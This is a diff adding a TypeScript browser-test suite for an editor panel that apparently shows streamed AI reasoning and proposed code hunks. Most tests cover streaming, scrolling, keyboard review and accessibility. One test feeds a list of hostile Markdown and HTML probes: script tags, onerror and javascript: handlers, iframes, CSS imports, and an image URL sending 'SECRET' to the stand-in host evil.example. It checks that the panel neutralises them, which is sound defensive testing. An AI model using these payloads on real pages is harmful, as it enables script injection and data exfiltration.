@@ -1,0 +1,255 @@
+import assert from "node:assert/strict";
+import { afterEach, beforeEach, test } from "node:test";
+import type { LogEvent } from "../../src/core/events.ts";
+import { openPanelPage, type PanelPage } from "../support/panelPage.ts";
+
+const start: LogEvent = {
+  type: "run-start",
+  at: 0,
+  run: "r1",
+  startedAt: 0,
+  instruction: "Split it",
+  target: "src/cart.ts 41–88",
+  model: "gpt-5.5",
+  effort: { asked: "xhigh", sent: "high", note: "gpt-5.5 has no xhigh; sent high." },
+};
+const reasoning = (text: string, part = 0): LogEvent => ({
+  type: "reasoning-delta",
+  at: 800,
+  part,
+  provenance: "summary",
+  text,
+});
+const hunk = (id: string, line: number) => ({ id, start: line, removed: [`old ${id}`], added: [`new ${id}`, "more"] });
+const placed: LogEvent = { type: "edit-placed", at: 900, edit: 0, hunks: [hunk("a", 3), hunk("b", 9)] };
+const finished: LogEvent = { type: "run-end", at: 1000, outcome: { kind: "finished" } };
+
+let panel: PanelPage;
+
+beforeEach(async () => {
+  panel = await openPanelPage();
+});
+
+afterEach(() => panel.close());
+
+test("it asks for the log once, and says what to do before there is a run", async () => {
+  assert.deepEqual(await panel.sent(), [{ type: "ready" }]);
+  await panel.page.getByRole("button", { name: "Refactor Selection…" }).click();
+  assert.deepEqual((await panel.sent()).at(-1), { type: "command", command: "refactor-selection" });
+});
+
+test("a clamped effort shows asked → sent, and why", async () => {
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  await panel.page.getByText("xhigh → high").waitFor();
+  await panel.page.getByText("gpt-5.5 has no xhigh; sent high.").waitFor();
+});
+
+test("every character of streamed reasoning arrives, whatever it looks like and however it is cut", async () => {
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  const text =
+    "a < b && c > d, `x<T>()` and <b>html</b> & ${value} costs $5 or $6.\n\n  indented  twice\n\n- item <img src=x>\n- **bold** and _slanted_\n\n```ts\nconst a = `${b}`;\n```\n";
+  for (const character of text) await panel.events(reasoning(character));
+  await panel.events(finished);
+  const shown = panel.page.locator(".reasoning");
+  await shown.getByText("bold").waitFor();
+  // What is markup may go: emphasis, bullets, fences and the language that a fence names.
+  const plain = (value: string) => value.replace("```ts", "").replace(/[\s*_`#-]/g, "");
+  assert.equal(plain((await shown.textContent()) ?? ""), plain(text));
+});
+
+const probes = [
+  "![x](https://evil.example/?d=SECRET)",
+  "[click](https://evil.example)",
+  "[click](command:workbench.action.quit)",
+  "[click](javascript:alert(1))",
+  "[click][ref]\n\n[ref]: https://evil.example",
+  "<https://evil.example>",
+  "https://evil.example/auto",
+  "<img src=https://evil.example/i.png onerror=alert(1)>",
+  "<script>window.pwned=1</script>",
+  "<svg><image href=https://evil.example/s.svg></svg>",
+  "<style>@import 'https://evil.example/c.css'</style>",
+  "<iframe src=https://evil.example></iframe>",
+  "<form action=https://evil.example><input type=image src=https://evil.example/i></form>",
+  "<a href=https://evil.example>a</a>",
+  "<button onclick=alert(1)>Accept All</button>",
+  "<div style='background:url(https://evil.example/b)' class=primary id=x>d</div>",
+  "<video poster=https://evil.example/v src=https://evil.example/v></video>",
+  "![x](data:text/html,<script>alert(1)</script>)",
+  "- [x] task\n- [ ] open",
+  "$$\\href{https://evil.example}{x}$$",
+  "| a | b |\n|---|---|\n| ![x](https://evil.example/t) | <img src=https://evil.example/t2> |",
+  "# [h](https://evil.example)\n> ![q](https://evil.example/q)",
+];
+
+test("hostile Markdown makes no request, no script, and nothing interactive, linked, styled or named", async () => {
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  const before = panel.requests.length;
+  for (const [part, probe] of probes.entries()) await panel.events(reasoning(`${probe}\n\n`, part));
+  const unplaced: LogEvent = {
+    type: "edit-unplaced",
+    at: 950,
+    edit: 1,
+    refusal: { reason: "not-found", detail: "", quoted: probes.join("\n") },
+  };
+  await panel.events(
+    unplaced,
+    { type: "answer-delta", at: 960, text: probes.join("\n") },
+    { type: "run-end", at: 1000, outcome: { kind: "refused", text: probes[7] ?? "" } },
+  );
+  await panel.page.locator(".outcome").waitFor();
+  assert.deepEqual(panel.requests.slice(before), []);
+  assert.deepEqual(panel.violations, []);
+  assert.equal(await panel.page.evaluate("window.pwned"), undefined);
+  const names = await panel.page
+    .locator(".reasoning *")
+    .evaluateAll((nodes) => nodes.map((node) => [node.localName, ...node.getAttributeNames()].join(" ")));
+  const allowed = new Set([
+    "div",
+    "p",
+    "h3",
+    "h4",
+    "h5",
+    "em",
+    "strong",
+    "s",
+    "code",
+    "pre",
+    "ul",
+    "ol",
+    "ol start",
+    "li",
+    "blockquote",
+    "br",
+    "hr",
+    "table",
+    "tr",
+    "td",
+    "span",
+  ]);
+  assert.deepEqual(
+    [...new Set(names)].filter((name) => !allowed.has(name)),
+    [],
+  );
+  assert.ok(names.length > 30);
+  assert.match((await panel.page.locator(".reasoning").textContent()) ?? "", /click \(https:\/\/evil\.example\)/);
+});
+
+test("it follows the tail until the reader scrolls up; then a pill says that there is more, and leads there", async () => {
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  const scroller = panel.page.locator(".scroller");
+  const distance = () => scroller.evaluate((node) => node.scrollHeight - node.scrollTop - node.clientHeight);
+  const lines = (from: number) => Array.from({ length: 80 }, (_, line) => `paragraph ${from + line}\n\n`).join("");
+  await panel.events(reasoning(lines(0)));
+  await panel.page.getByText("paragraph 78").waitFor();
+  assert.ok((await distance()) < 24);
+  await scroller.evaluate((node) => {
+    node.scrollTop = 100;
+  });
+  await panel.page.waitForFunction("document.querySelector('.scroller').scrollTop === 100");
+  await panel.events(reasoning(lines(80)));
+  const pill = panel.page.getByRole("button", { name: "↓ new reasoning" });
+  await pill.waitFor();
+  assert.equal(await scroller.evaluate((node) => node.scrollTop), 100);
+  await pill.click();
+  await pill.waitFor({ state: "hidden" });
+  assert.ok((await distance()) < 24);
+});
+
+test("hunks by keyboard: arrows move, Enter shows, A accepts, R rejects", async () => {
+  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
+  await panel.page.locator(".hunks .link").first().focus();
+  await panel.page.keyboard.press("a");
+  await panel.page.keyboard.press("ArrowDown");
+  await panel.page.keyboard.press("r");
+  await panel.page.keyboard.press("Enter");
+  assert.deepEqual((await panel.sent()).slice(1), [
+    { type: "hunk", hunk: "a", action: "accept" },
+    { type: "hunk", hunk: "b", action: "reject" },
+    { type: "hunk", hunk: "b", action: "show" },
+  ]);
+});
+
+test("a changed review keeps the focus where it is", async () => {
+  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
+  await panel.page.locator(".hunks .link").nth(1).focus();
+  const views = [hunk("a", 3), hunk("b", 9)].map((each) => ({
+    ...each,
+    line: each.start + 2,
+    state: "accepted" as const,
+  }));
+  await panel.events({ type: "review-changed", at: 1100, hunks: views });
+  await panel.page.getByText("cart.ts:12").waitFor();
+  assert.equal(await panel.page.evaluate("document.activeElement.closest('li').dataset.hunk"), "b");
+});
+
+test("a conflict offers the three ways out", async () => {
+  await panel.tell({ type: "log", events: [start, placed, finished], now: 1000 });
+  await panel.events({ type: "review-changed", at: 1100, hunks: [{ ...hunk("a", 3), line: 3, state: "conflict" }] });
+  for (const name of ["Keep Yours", "Take Proposed", "Edit Both"])
+    await panel.page.getByRole("button", { name }).click();
+  assert.deepEqual(
+    (await panel.sent()).slice(1).map((message) => (message.type === "hunk" ? message.action : message.type)),
+    ["keep-yours", "take-proposed", "edit-both"],
+  );
+});
+
+test("hunks of an interrupted run can be read, and not accepted", async () => {
+  await panel.tell({
+    type: "log",
+    events: [start, placed, { type: "run-end", at: 14_000, outcome: { kind: "interrupted", why: "connection" } }],
+    now: 14_000,
+  });
+  await panel.page.getByText("Interrupted after 0:14").first().waitFor();
+  assert.equal(await panel.page.getByRole("button", { name: /^Accept/ }).count(), 0);
+  await panel.page.getByRole("button", { name: "Lines of hunk 1" }).click();
+  await panel.page.getByText("+ new a").waitFor();
+});
+
+test("reasoning that does not show is said, with what it cost", async () => {
+  await panel.tell({
+    type: "log",
+    events: [start, { type: "usage", at: 900, usage: { input: 10, output: 900, reasoning: 842 } }, placed, finished],
+    now: 1000,
+  });
+  await panel.page.getByText("This provider bills reasoning but does not show it (842 tokens).").waitFor();
+});
+
+test("screen readers hear milestones, and no tokens", async () => {
+  const live = panel.page.locator('[aria-live="polite"]');
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  await live.getByText("Waiting for the model").waitFor({ state: "attached" });
+  await panel.events(reasoning("some thought"));
+  await live.getByText("Reasoning started").waitFor({ state: "attached" });
+  await panel.events(placed, finished);
+  await live.getByText("2 hunks ready to review").waitFor({ state: "attached" });
+  assert.doesNotMatch((await live.textContent()) ?? "", /some thought/);
+});
+
+test("a log told again shows the same as the stream did", async () => {
+  const events: LogEvent[] = [
+    start,
+    reasoning("First **part**.\n"),
+    reasoning("Second part.", 1),
+    reasoning(" It goes on.", 1),
+    placed,
+    finished,
+  ];
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  for (const event of events.slice(1)) await panel.events(event);
+  await panel.page.getByText("2 hunks ready to review").waitFor({ state: "attached" });
+  const streamed = await panel.page.locator("main").innerHTML();
+  await panel.tell({ type: "log", events, now: 1000 });
+  await panel.page.waitForFunction("document.querySelectorAll('.reasoning > div').length === 2");
+  assert.equal(await panel.page.locator("main").innerHTML(), streamed);
+});
+
+test("twenty thousand deltas are all there", async () => {
+  await panel.tell({ type: "log", events: [start], now: 0 });
+  const words = Array.from({ length: 20_000 }, (_, count) => `w${count} `);
+  for (let at = 0; at < words.length; at += 500)
+    await panel.events(...words.slice(at, at + 500).map((word) => reasoning(word)));
+  await panel.events(finished);
+  await panel.page.getByText("w19999").waitFor();
+  assert.equal(await panel.page.locator(".reasoning").textContent(), words.join(""));
+});
